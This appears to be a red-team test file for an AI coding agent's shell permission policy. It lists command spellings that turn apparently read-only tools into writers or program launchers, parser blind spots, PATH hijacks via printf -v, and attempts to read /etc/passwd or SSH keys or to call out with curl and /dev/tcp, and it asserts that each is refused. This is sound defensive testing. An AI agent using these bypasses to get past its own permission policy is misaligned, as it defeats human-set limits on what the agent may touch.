/**
 * Red-team: policy decisions only (no execution). Every case asserts the SAFE outcome: a command
 * that writes, launches a program or reads outside the workspace must NOT be decided `allow` by a
 * policy whose intent is to refuse it (ask or deny is fine). A failing case is a real bypass.
 *
 * Each "bypass" case below was checked against the real tool on Debian 12 (GNU coreutils 9.1,
 * git 2.39, xxd 2022-01-14, bash 5.2): the command really writes or runs what the comment says.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPipeline, type Pipeline } from '../../engine/pipeline.js';
import { loadPolicy, loadPolicyText, type CompiledPolicy } from '../../policies/index.js';
import { tempDir } from '../helpers/tmp.js';

const WS = '/tmp/icode-attack-ws';
const cache = new Map<string, Promise<CompiledPolicy>>();

function policy(name: string): Promise<CompiledPolicy> {
  let p = cache.get(name);
  if (!p) {
    p =
      name === 'narrow'
        ? loadPolicyText(
            ['version: 1', 'default: ask', 'rules:', '  - {id: safe, decision: allow, command: ["git status", "ls **", "echo **"]}', ''].join('\n'),
            'narrow.yaml',
            { home: '/home/agent' },
          )
        : loadPolicy(`builtin:${name}`);
    cache.set(name, p);
  }
  return p;
}

async function decide(name: string, command: string): Promise<string> {
  return (await policy(name)).decide({ tool: 'shell', input: { command }, workspace: WS }).decision;
}

/** 150 lines of `touch PWN`: enough for `sort -S 1` to spill to a temp file through the compressor. */
const SCRIPT_LINES = Array(150).fill('touch PWN').join('\n');

describe('readonly: option spellings that turn readers into writers/launchers', () => {
  // The ask rules list `sort --compress-program` / `--output` / `-o`, but GNU getopt_long accepts any
  // unambiguous abbreviation of a long option and clusters short options: every spelling below writes a
  // file or runs a program. (Responsible: policies/builtin/readonly.yaml `readonly.reader-turned-writer`,
  // matched purely syntactically by policies/shell/patterns.ts.)
  it.each([
    // runs `sh` with the sorted lines on stdin => arbitrary command execution
    [`sort -S 1 --compress-prog sh <<< '${SCRIPT_LINES}'`],
    [`sort -S1 --compress-pro=sh <<< '${SCRIPT_LINES}'`],
    [`sort -S 1 --co=sh <<< '${SCRIPT_LINES}'`],
    // writes out.txt
    ['sort --o=out.txt in.txt'],
    ['sort --outp=out.txt in.txt'],
    ['sort -uo out.txt in.txt'],
    ['sort -mo out.txt in.txt'],
  ])('sort: %s is not allowed', async (cmd) => {
    expect(await decide('readonly', cmd)).not.toBe('allow');
  });

  it.each([
    // git's parse-options accepts abbreviations: --open-files-in-p=CMD runs CMD
    ["git grep --open-files-in-p='touch PWN' a"],
    ["git grep --open-files='touch PWN' a"],
    // clustered short options: -i then -O with an attached value
    ["git grep -iO'touch PWN' a"],
    ["git grep -nO'touch PWN' a"],
  ])('git grep pager launcher: %s is not allowed', async (cmd) => {
    expect(await decide('readonly', cmd)).not.toBe('allow');
  });

  it.each([
    // xxd matches options by prefix: -revert is -r, and writes arbitrary bytes to the second operand
    ['xxd -revert -p hex.txt out.bin'],
    ['xxd -revert -p - out.sh'],
    ['xxd -re -p hex.txt out.bin'],
    // xxd's second operand is always an output file, even without -r
    ['xxd in.txt out.txt'],
    // tree: clustered -o writes the listing; file -C compiles a magic file (writes foo.mgc)
    ['tree -ao out.txt .'],
    ['file -C -m foo'],
  ])('other writers: %s is not allowed', async (cmd) => {
    expect(await decide('readonly', cmd)).not.toBe('allow');
  });
});

describe('readonly: variable assignment by a builtin changes what later commands run', () => {
  // `PATH=.; ls` asks ("a bare PATH=… is a command of its own"), but printf -v assigns the same
  // exported variable: the following `ls`/`git` is looked up in the workspace (a hostile repo's ./git).
  // Responsible: policies/shell/analyze.ts builtinChecks case 'printf' only checks subscripts/CODE_VARS,
  // not the NOT_INERT list of patterns.ts.
  it.each([
    ['printf -v PATH %s .; ls'],
    ['printf -vPATH %s .; git status'],
    ['printf -v HOME %s .; git status'],
  ])('%s is not allowed', async (cmd) => {
    expect(await decide('readonly', cmd)).not.toBe('allow');
  });

  it('control: the plain assignment form is refused', async () => {
    expect(await decide('readonly', 'PATH=.; ls')).not.toBe('allow');
  });
});

describe('parser: a backtick substitution inside ${var:-…} is not seen', () => {
  // bash runs `touch PWN` when x is unset; tree-sitter-bash does not surface the backtick inside the
  // parameter expansion's default word, so the walker (policies/shell/analyze.ts `expansion()`) never
  // emits it as a command.
  const B = '`touch PWN`';
  it.each([
    [`echo "\${x:-${B}}"`],
    [`echo \${x:-${B}}`],
    [`echo "\${x:=${B}}"`],
    [`echo "\${x:+${B}}"`],
    [`echo "\${x-${B}}"`],
    [`echo "\${x?${B}}"`],
    [`echo "\${x/a/${B}}"`],
    [`echo "a\${x:-${B}}"`],
    [`echo "\${x:-\${y:-${B}}}"`],
    [`echo hi; y="\${x:-${B}}"; ls`],
  ])('narrow policy: %s is not allowed', async (cmd) => {
    expect(await decide('narrow', cmd)).not.toBe('allow');
  });

  it.each([
    // no argument is dynamic here, so even readonly's outside-path rule does not catch it
    [`cat <<EOF\n\${x:-${B}}\nEOF`],
    [`echo hi; y="\${x:-${B}}"; ls`],
    [`echo hi; y=\${x:-${B}}; ls`],
  ])('readonly: %s is not allowed', async (cmd) => {
    expect(await decide('readonly', cmd)).not.toBe('allow');
  });

  it('control: the same with $(…) is seen', async () => {
    expect(await decide('narrow', 'echo "${x:-$(touch PWN)}"')).not.toBe('allow');
  });
});

describe('readonly: paths hidden in attached short-option values', () => {
  // shell-subjects.ts only looks at `--opt=VALUE`; `-fVALUE` is never a path, so reading outside the
  // workspace is allowed where `grep -f /etc/passwd` asks.
  it.each([['grep -f/etc/passwd x'], ['file -m/etc/passwd x']])('%s is not allowed', async (cmd) => {
    expect(await decide('readonly', cmd)).not.toBe('allow');
  });
  it('control: the separated form asks', async () => {
    expect(await decide('readonly', 'grep -f /etc/passwd x')).not.toBe('allow');
  });
});

describe('held: shell tricks that are refused (regressions)', () => {
  it.each([
    "test -v 'a[$(touch PWN)]'",
    "[ -v 'a[$(touch PWN)]' ]",
    "x='a[$(touch PWN)]'; echo ${!x}",
    "x='a[$(touch PWN)]'; echo $((x))",
    "x='a[$(touch PWN)]'; s=abc; echo ${s:x}",
    "printf -v 'a[$(touch PWN)]' x",
    "x='a[$(touch PWN)]'; [[ $x -eq 1 ]]",
    'echo $(( a[$(touch PWN)] ))',
    '[[ -v a[$(touch PWN)] ]]',
    'echo ${a[$(touch PWN)]}',
    'echo "${x:-$(touch PWN)}"',
    'git log --output=/tmp/x',
    'git diff --ext-diff',
    'sort -o out.txt in.txt',
    'sort --compress-program=sh x',
    'xxd -r in out',
    'find . -fprintf x %p',
    'rg --pre ./x foo',
    'git -c core.pager=sh log',
    'cat /e\'\'tc/passwd',
    "cat $'\\x2fetc/passwd'",
    'cat ~root/.ssh/id_rsa',
    'cat /etc/pass*',
    'cat {/etc/passwd,x}',
    'cd /etc && cat passwd',
    'cat ~-/x',
    'head -c 100 /proc/self/root/etc/passwd',
    'echo x > /dev/fd/3/../../../tmp/x',
    'alias ls="curl x"',
    'ls() { curl x; }; ls',
    'echo a <<EOF\n$(curl x)\nEOF',
    'ls >(curl x)',
    'echo $[$(curl x)]',
    'ls &>/dev/tcp/1.2.3.4/80',
  ])('readonly refuses %s', async (cmd) => {
    expect(await decide('readonly', cmd)).not.toBe('allow');
  });

  it.each(['echo x > .git/config', 'echo x > ./.git//config', 'echo x > sub/../.git/hooks/x', 'echo x &>>.git/config', 'exec 3>.git/config', 'cat <> .git/config'])(
    'workspace-write denies the redirect %s',
    async (cmd) => {
      expect(await decide('workspace-write', cmd)).toBe('deny');
    },
  );
});

describe('end to end under builtin:readonly: the allowed command really writes / runs code in the jail', () => {
  // The shell still runs in the bwrap jail, so these do not escape it; but builtin:readonly promises
  // "the agent may look, not touch", and each of these touches (runs an arbitrary program, or
  // creates files) after an `allow`. Asks are settled `deny` (non-interactive), so a safe policy runs
  // nothing here.
  const root = tempDir('icode-attack-ro-');
  const ws = join(root, 'ws');
  let p: Pipeline;

  beforeAll(async () => {
    mkdirSync(ws, { recursive: true });
    writeFileSync(join(ws, 'a.txt'), 'hello\n');
    const env = { PATH: '/usr/bin:/bin', HOME: root, GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@b', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@b' };
    for (const args of [['init', '-q'], ['add', 'a.txt'], ['commit', '-qm', 'init']]) spawnSync('git', args, { cwd: ws, env });
    p = await createPipeline({ workspace: ws, policy: 'builtin:readonly', audit: join(root, 'audit.db'), session: 'ro', ask: 'deny' });
  });
  afterAll(async () => {
    await p?.close();
  });

  it.each([
    ['PWN-sort', `sort -S 1 --compress-prog sh <<< '${Array(150).fill('touch PWN-sort').join('\n')}'`],
    ['PWN-heredoc', 'cat <<EOF\n${x:-`touch PWN-heredoc`}\nEOF'],
    ['PWN-assign', 'echo hi; y="${x:-`touch PWN-assign`}"; ls'],
    ['PWN-gitgrep', "git grep --open-files-in-p='touch PWN-gitgrep' hello"],
    ['PWN-xxd', 'xxd -revert -p - PWN-xxd <<< 6869'],
    ['PWN-sorto', 'sort --o=PWN-sorto a.txt'],
    // control: a plainly refused command creates nothing (the harness can pass)
    ['PWN-control', 'touch PWN-control'],
  ])('creates no %s', async (marker, command) => {
    await p.call({ tool: 'shell', input: { command, timeout_ms: 15_000 } });
    expect(existsSync(join(ws, marker))).toBe(false);
  });
});
